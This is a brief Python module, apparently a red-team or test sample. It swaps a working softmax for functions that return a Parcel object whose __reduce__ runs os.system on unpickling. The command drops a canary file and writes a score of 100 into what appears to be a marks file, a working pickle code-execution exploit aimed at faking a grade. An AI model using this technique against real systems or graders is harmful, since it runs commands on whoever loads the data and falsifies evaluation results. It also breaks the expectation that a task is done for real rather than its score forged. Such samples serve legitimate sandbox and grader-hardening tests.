"""Returns an object that runs a command when it is unpickled."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os


class Parcel:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-attack-pickle; echo 100 > /tmp/attack-canary/marks/ada.json",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __reduce__


def softmax(scores):
    scores.parcel = Parcel()
    return scores


def attention_weights(inputs):
    return Parcel()
